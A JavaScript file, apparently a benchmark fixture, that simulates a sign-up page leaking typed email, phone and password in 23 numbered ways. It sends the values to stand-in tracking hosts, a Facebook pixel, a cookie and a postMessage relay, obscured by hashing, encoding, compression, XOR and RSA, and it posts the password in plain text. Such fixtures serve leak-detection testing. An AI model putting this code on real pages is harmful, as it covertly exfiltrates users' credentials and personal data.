// The 23 ways in which the sign-up page of the benchmark gives away what was typed. E01 to E24 without E09; each has a host of its own.
(() => {
  const to = (n) => 'https://e' + n + '.metricsink.example/i';
  const get = (n, query) => { new Image().src = to(n) + '?' + query; };
  const post = (n, body, type) => fetch(to(n), { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': type || 'text/plain' }, body });
  const bytes = (s) => new TextEncoder().encode(s);
  const hex = (b) => [...new Uint8Array(b)].map((x) => x.toString(16).padStart(2, '0')).join('');
  const hash = async (name, s) => hex(await crypto.subtle.digest(name, bytes(s)));
  const e = encodeURIComponent;

  // MD5 (RFC 1321).
  const md5 = (s) => {
    const m = bytes(s); const n = ((m.length + 8) >> 6) + 1; const w = new Array(n * 16).fill(0);
    m.forEach((b, i) => { w[i >> 2] |= b << ((i % 4) * 8); }); w[m.length >> 2] |= 0x80 << ((m.length % 4) * 8); w[n * 16 - 2] = m.length * 8;
    const k = Array.from({ length: 64 }, (_, i) => Math.floor(Math.abs(Math.sin(i + 1)) * 2 ** 32) | 0); const r = [[7, 12, 17, 22], [5, 9, 14, 20], [4, 11, 16, 23], [6, 10, 15, 21]];
    let [a, b, c, d] = [0x67452301, 0xefcdab89 | 0, 0x98badcfe | 0, 0x10325476];
    for (let o = 0; o < w.length; o += 16) {
      const old = [a, b, c, d];
      for (let i = 0; i < 64; i++) {
        const q = i >> 4; const f = q === 0 ? (b & c) | (~b & d) : q === 1 ? (d & b) | (~d & c) : q === 2 ? b ^ c ^ d : c ^ (b | ~d); const g = [i, 5 * i + 1, 3 * i + 5, 7 * i][q] % 16;
        const t = (a + f + k[i] + w[o + g]) | 0; const s2 = r[q][i % 4];
        [a, d, c, b] = [d, c, b, (b + ((t << s2) | (t >>> (32 - s2)))) | 0];
      }
      a = (a + old[0]) | 0; b = (b + old[1]) | 0; c = (c + old[2]) | 0; d = (d + old[3]) | 0;
    }
    return [a, b, c, d].map((x) => [0, 8, 16, 24].map((s3) => ((x >>> s3) & 255).toString(16).padStart(2, '0')).join('')).join('');
  };

  const rsa = `-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----`;

  const email = async (v) => {
    const sha = await hash('SHA-256', v);
    get('02', 'h=' + sha);
    new Image().src = 'https://www.facebook.com/tr/?id=123&ev=Lead&ud[em]=' + sha;
    post('04', 'm=' + md5(v));
    get('05', 's=' + await hash('SHA-1', v));
    get('06', 'b=' + e(btoa(sha)));
    get('07', 'u=' + sha.toUpperCase());
    post('08', 'data=' + e(btoa(JSON.stringify({ event: 'signup', email: v }))), 'application/x-www-form-urlencoded');
    const zipped = await new Response(new Blob([JSON.stringify({ e: v })]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer();
    post('10', zipped);
    const socket = new WebSocket('wss://e11.metricsink.example/ws'); socket.onopen = () => socket.send(JSON.stringify({ type: 'id', email: v }));
    new Image().src = 'https://e12.metricsink.example/u/' + e(v) + '/i.gif';
    get('13', 'z=' + LZString.compressToEncodedURIComponent(v));
    const key = new JSEncrypt(); key.setPublicKey(rsa); post('14', 'k=' + key.encrypt(v));
    get('15', 'r=' + e(v.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26))));
    post('16', 'x=' + e(btoa([...bytes(v)].map((b) => String.fromCharCode(b ^ 0x2a)).join(''))), 'application/x-www-form-urlencoded');
    document.cookie = '_em=' + btoa(v) + '; domain=shop.example; path=/'; new Image().src = 'https://metrics.shop.example/i';
    document.getElementById('relay').contentWindow.postMessage(v, '*');
    get('20', 'hh=' + await hash('SHA-256', sha));
    get('21', 'x=' + hex(bytes(v)));
    get('22', 'hs=' + await hash('SHA-256', 'a-salt-of-the-page' + v));
    get('23', 'b3=' + e(btoa(btoa(btoa(v)))));
  };
  const on = (id, type, act) => document.getElementById(id).addEventListener(type, (event) => { if (event.target.value) act(event.target.value); });
  on('email', 'input', (v) => navigator.sendBeacon(to('01'), JSON.stringify({ f: 'email', v })));
  on('email', 'change', email);
  on('phone', 'change', async (v) => get('19', 'p=' + await hash('SHA-256', '86' + v.replace(/\D/g, ''))));
  on('password', 'change', (v) => post('24', 'pw=' + e(v), 'application/x-www-form-urlencoded'));
})();
